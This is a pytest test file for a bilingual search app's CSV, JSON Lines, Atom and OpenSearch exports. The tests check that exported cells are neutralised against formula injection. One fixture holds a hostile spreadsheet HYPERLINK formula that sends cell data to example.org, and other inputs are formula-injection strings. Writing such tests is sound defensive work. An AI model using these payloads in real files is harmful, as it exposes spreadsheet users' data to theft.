"""A search to take away or to follow: CSV, JSON Lines, Atom, and the box for a browser."""

import csv
import io
import json
import uuid
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from indexer import Index
from indexer.results_json import as_json
from tests.web.conftest import OEUVRE, SCRIPT, write_jsonl
from tests.web.test_pages import HARD, INJECTIONS, read
from webui import create_app
from webui.exporting import cell

A = "{http://www.w3.org/2005/Atom}"
O = "{http://a9.com/-/spec/opensearch/1.1/}"  # noqa: E741
XML = "{http://www.w3.org/XML/1998/namespace}"

HEADS = {
    "fr": "Rang Titre Langue Date Type Fichier Extrait",
    "en": "Rank Title Language Date Type File Excerpt",
}


def rows(response: TestResponse, language: str) -> list[list[str]]:
    """Read a CSV file as Excel of that language does."""
    assert response.data.startswith(b"\xef\xbb\xbf")
    text = io.StringIO(response.data.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter={"fr": ";", "en": ","}[language]))


@pytest.mark.parametrize("language", ["fr", "en"])
def test_csv_opens_in_the_excel_of_the_reader(
    client: FlaskClient, index: Index, language: str
) -> None:
    response = client.get(
        "/export.csv?q=oeuvre+alert+sœur", headers={"Accept-Language": f"{language}-CH"}
    )
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "Accept-Language" in response.headers["Vary"]
    head, *found = rows(response, language)
    assert head[:7] == HEADS[language].split()
    hits = index.search("oeuvre alert sœur", limit=1000).hits
    assert [row[1] for row in found] == [hit.document.title for hit in hits]
    assert {OEUVRE["title"], SCRIPT["title"]} <= {row[1] for row in found}
    (row,) = [row for row in found if row[1] == "L’œuvre d’Hélène"]
    assert row[2:6] == [{"fr": "Français", "en": "French"}[language], "2025-04-13", "jsonl",
                        hits[0].document.path]  # fmt: skip
    assert row[6].startswith("La sœur d’Hélène admire l’œuvre du peintre.")
    assert row[8:] == [OEUVRE["url"], "oeuvre"]
    page = read(client.get(row[7]))
    assert page.one("h1")[1] == "L’œuvre d’Hélène"
    assert "œuvre" in [text for _, text in page.all("mark")]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),
        ("\r=1", "'=1"),
        ("\n\t +1", "'+1"),
        ("＝1+1", "'＝1+1"),
        ("L’œuvre d’Hélène", "L’œuvre d’Hélène"),
        ("a\r\nb\tc", "a b c"),
        ("– tiret", "– tiret"),
        ("1-2", "1-2"),
        ("a, =1", "a, =1"),
        ("a;=1", "a;'=1"),
        ('a; "" +1;-2', "a; \"\" '+1;'-2"),
        ('"=1', "\"'=1"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(text: str, expected: str) -> None:
    assert cell(text, ";") == expected


HOSTILE = '=HYPERLINK("http://example.org/?"&A1;"Œuvre d’été")'


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
    """A client over 1,203 hits for "phare", of which some say things to a spreadsheet."""

    def records() -> Iterator[dict[str, str]]:
        for n in range(1200):
            yield {"id": f"n{n}", "title": f"Le phare numéro {n}", "body": f"Un phare, été {n}."}
        yield {"id": "+1", "title": HOSTILE, "body": "=phare;\n@phare", "date": "2031"}
        yield {"id": "-2", "title": "-phare", "body": "\u0007Un phare\u2028brille.", "url": "=1"}
        yield {
            "id": "@3",
            "title": "phare\u0001\ufffe",
            "body": "]]> phare &amp; <![CDATA[",
            "date": "2030-02",
            "url": "https://example.org/a|b",
        }

    folder = tmp_path_factory.mktemp("large")
    write_jsonl(folder / "phares.jsonl", records())
    Index.build(folder / "index", [folder / "phares.jsonl"]).close()
    return create_app(str(folder / "index")).test_client()


def test_nothing_hostile_reaches_a_spreadsheet(large: FlaskClient) -> None:
    for language in ("fr", "en"):
        response = large.get("/export.csv", query_string={"q": "hyperlink brille", "hl": language})
        _, *found = rows(response, language)
        assert "'" + HOSTILE in [row[1] for row in found]
        assert {"'+1", "'-2"} == {row[9] for row in found}
        assert not [text for row in found for text in row if text[:1] in tuple("=+-@\t\r\n")]


def test_an_export_is_cut_and_says_so(large: FlaskClient) -> None:
    _, *found = rows(large.get("/export.csv?q=phare&hl=fr"), "fr")
    assert [int(row[0]) for row in found] == list(range(1, 1001))
    for hl, kind, name in (
        ("fr", "csv", "recherche phare (1\u202f000 premiers sur 1\u202f203).csv"),
        ("en", "jsonl", "search phare (first 1,000 of 1,203).jsonl"),
    ):
        header = large.get(f"/export.{kind}?q=phare&hl={hl}").headers["Content-Disposition"]
        assert name in header or quote(name, safe="") in header
    header = large.get("/export.csv?q=brille&hl=fr").headers["Content-Disposition"]
    assert "recherche brille.csv" in header


def test_json_lines(client: FlaskClient, index: Index) -> None:
    response = client.get("/export.jsonl?q=budget&page=2")
    assert response.mimetype == "application/x-ndjson"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    lines = response.data.decode("utf-8").splitlines()
    expected = as_json(index.search("budget", limit=1000))["hits"]
    assert [json.loads(line) for line in lines] == json.loads(json.dumps(expected))
    assert len(lines) == 28


def test_the_filter_of_the_address_applies(client: FlaskClient) -> None:
    for address in ("/export.csv", "/export.jsonl", "/feed.atom"):
        found = {
            code: client.get(address, query_string={"q": "budget", "lang": code, "hl": "en"})
            for code in ("", "en", "fr", "mixed")
        }
        counts = {
            code: (
                answer.data.count(b"Report number"),
                answer.data.count("Rapport numéro".encode()),
            )
            for code, answer in found.items()
        }
        assert counts == {"": (4, 23), "en": (4, 0), "fr": (0, 23), "mixed": (0, 0)}
        assert all("Procès-verbal / Minutes".encode() in answer.data for answer in found.values())


def feed(response: TestResponse) -> ET.Element:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/atom+xml; charset=utf-8"
    root = ET.fromstring(response.data)  # noqa: S314  # our own answer
    for element in (root, *root.iter(f"{A}entry")):  # what RFC 4287 asks of both
        for name in ("id", "title", "updated"):
            (child,) = element.findall(f"{A}{name}")
            assert child.text
        uuid.UUID((element.findtext(f"{A}id") or "").removeprefix("urn:uuid:"))
        moment = datetime.fromisoformat(element.findtext(f"{A}updated") or "")
        assert moment.tzinfo is not None
        (alternate,) = element.findall(f"{A}link[@rel='alternate']")
        assert urlsplit(alternate.attrib["href"]).netloc == "localhost"
    assert root.findtext(f"{A}author/{A}name")
    ids = [element.text for element in root.iter(f"{A}id")]
    assert len(ids) == len(set(ids))
    return root


@pytest.mark.parametrize("language", ["fr", "en"])
def test_feed(client: FlaskClient, language: str) -> None:
    page = read(client.get("/?q=oeuvre+alert&page=1", headers={"Accept-Language": language}))
    link = page.one("link", rel="alternate", type="application/atom+xml")[0]
    assert [href for href, _ in page.links() if href == link["href"]]
    response = client.get(link["href"])
    root = feed(response)
    assert response.headers["Content-Language"] == language
    assert root.attrib[f"{XML}lang"] == language
    assert root.findtext(f"{A}title") == link["title"]
    assert (
        link["title"]
        == {
            "fr": "«\u00a0oeuvre alert\u00a0» – Recherche bilingue",
            "en": "“oeuvre alert” – Bilingual Search",
        }[language]
    )
    (self_,) = root.findall(f"{A}link[@rel='self']")
    assert urlsplit(self_.attrib["href"]).path == "/feed.atom"
    assert parse_qs(urlsplit(self_.attrib["href"]).query) == {
        "q": ["oeuvre alert"],
        "hl": [language],
    }
    entries = {entry.findtext(f"{A}title"): entry for entry in root.iter(f"{A}entry")}
    entry = entries["L’œuvre d’Hélène"]
    assert entry.findtext(f"{A}published") == "2025-04-13T00:00:00Z"
    summary = entry.find(f"{A}summary")
    assert summary is not None
    assert summary.attrib[f"{XML}lang"] == "fr"
    assert (summary.text or "").startswith("La sœur d’Hélène admire l’œuvre du peintre.")
    category = entry.find(f"{A}category")
    assert category is not None
    assert category.attrib == {"term": "fr", "label": {"fr": "Français", "en": "French"}[language]}
    (alternate,) = entry.findall(f"{A}link[@rel='alternate']")
    shown = read(client.get(alternate.attrib["href"]))
    assert shown.one("html")[0]["lang"] == language
    assert shown.one("h1")[1] == "L’œuvre d’Hélène"
    # Markup of a title is text; a "javascript:" address is no link.
    script = entries[SCRIPT["title"]]
    assert [link.attrib["rel"] for link in script.findall(f"{A}link")] == ["alternate"]


def test_the_newest_come_first_with_dates_as_far_as_known(large: FlaskClient) -> None:
    root = feed(large.get("/feed.atom?q=phare&hl=fr"))
    entries = root.findall(f"{A}entry")
    assert len(entries) == 50
    assert [each.findtext(f"{A}published") for each in entries[:3]] == [
        "2031-01-01T00:00:00Z",
        "2030-02-01T00:00:00Z",
        None,
    ]
    assert entries[2].findtext(f"{A}updated") == "1970-01-01T00:00:00Z"
    assert entries[0].findtext(f"{A}title") == HOSTILE
    (related,) = entries[1].findall(f"{A}link[@rel='related']")
    assert related.attrib["href"] == "https://example.org/a%7Cb"
    assert "]]> phare &amp; <![CDATA[" in (entries[1].findtext(f"{A}summary") or "")


def test_ids_of_a_feed_outlive_hosts_queries_and_rebuilds(
    client: FlaskClient, tmp_path: Path
) -> None:
    write_jsonl(tmp_path / "x.jsonl", iter((OEUVRE,)))
    Index.build(tmp_path / "index", [tmp_path / "x.jsonl"]).close()
    other = create_app(str(tmp_path / "index")).test_client()

    def entry_id(root: ET.Element) -> str | None:
        (found,) = [
            entry.findtext(f"{A}id")
            for entry in root.iter(f"{A}entry")
            if entry.findtext(f"{A}title") == OEUVRE["title"]
        ]
        return found

    here = feed(client.get("/feed.atom?q=sœur"))
    there = ET.fromstring(  # noqa: S314  # our own answer
        other.get("/feed.atom?q=sœur", base_url="https://example.org").data
    )
    assert entry_id(here) == entry_id(there) == entry_id(feed(client.get("/feed.atom?q=peintre")))
    assert here.findtext(f"{A}id") == there.findtext(f"{A}id")
    assert here.findtext(f"{A}id") != feed(client.get("/feed.atom?q=peintre")).findtext(f"{A}id")


@pytest.mark.parametrize("language", ["fr", "en"])
def test_a_browser_can_add_the_box(client: FlaskClient, language: str) -> None:
    for address in ("/", "/?q=phare", "/documents/oeuvre", "/rien"):
        page = read(client.get(address, headers={"Accept-Language": language}))
        link = page.one("link", rel="search")[0]
        assert link["type"] == "application/opensearchdescription+xml"
    response = client.get(link["href"])
    assert response.headers["Content-Type"] == f"{link['type']}; charset=utf-8"
    root = ET.fromstring(response.data)  # noqa: S314  # our own answer
    assert root.tag == f"{O}OpenSearchDescription"
    name = root.findtext(f"{O}ShortName") or ""
    assert name == link["title"]
    assert 0 < len(name) <= 16
    assert root.findtext(f"{O}Language") == language
    template = {url.attrib["type"]: url.attrib["template"] for url in root.iter(f"{O}Url")}
    page = read(client.get(template["text/html"].replace("{searchTerms}", quote("l’œuvre d’été"))))
    assert page.one("html")[0]["lang"] == language
    assert page.one("input", name="q")[0]["value"] == "l’œuvre d’été"
    feed(client.get(template["application/atom+xml"].replace("{searchTerms}", "phare")))


ADDRESSES = ("/export.csv", "/export.jsonl", "/feed.atom")


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize(
    ("query", "french", "english"),
    [
        ("", "a besoin d’une recherche", "needs something to search for"),
        ("q=+%00+", "a besoin d’une recherche", "needs something to search for"),
        ("q=phare&lang=de", "n’est pas une langue au choix", "is not a language to choose"),
        ("q=date:2024-99", "n’est pas une date", "is not a date"),
    ],
)
def test_what_cannot_be_exported(
    client: FlaskClient, address: str, query: str, french: str, english: str
) -> None:
    for language, words in (("fr", french), ("en", english)):
        response = client.get(f"{address}?{query}", headers={"Accept-Language": language})
        assert response.status_code == 400
        assert words in read(response).one("main")[1]
        assert "Content-Disposition" not in response.headers


@pytest.mark.parametrize("address", ADDRESSES)
def test_nothing_found_is_an_answer(client: FlaskClient, address: str) -> None:
    response = client.get(f"{address}?q=xyzzyq&hl=fr")
    assert response.status_code == 200
    if address == "/feed.atom":
        assert not feed(response).findall(f"{A}entry")
    else:
        assert len(response.data.splitlines()) == (1 if address == "/export.csv" else 0)


@pytest.mark.parametrize("address", ADDRESSES)
def test_hard_queries(client: FlaskClient, address: str) -> None:
    for what, query in HARD:
        response = client.get(f"{address}?{query}")
        assert response.status_code in (200, 400, 414), what
    for text in INJECTIONS:
        for name in ("q", "lang", "hl", "page"):
            response = client.get(address, query_string={"q": "phare", name: text})
            assert response.status_code in (200, 400)
            assert "Set-Cookie" not in response.headers
            if address == "/feed.atom" and response.status_code == 200:
                feed(response)


def test_every_filter_of_the_address_applies(client: FlaskClient) -> None:
    for address in ADDRESSES:
        answer = client.get(f"{address}?q=budget&hl=en&type=md&sort=oldest")
        assert answer.status_code == 200
        assert "Procès-verbal / Minutes".encode() in answer.data
        assert b"Report number" not in answer.data
        assert client.get(f"{address}?q=budget&sort=hasard").status_code == 400
    _, *found = rows(client.get("/export.csv?q=budget&hl=en&lang=fr&sort=oldest"), "en")
    dates = [row[3] for row in found if row[3]]
    assert dates == sorted(dates)
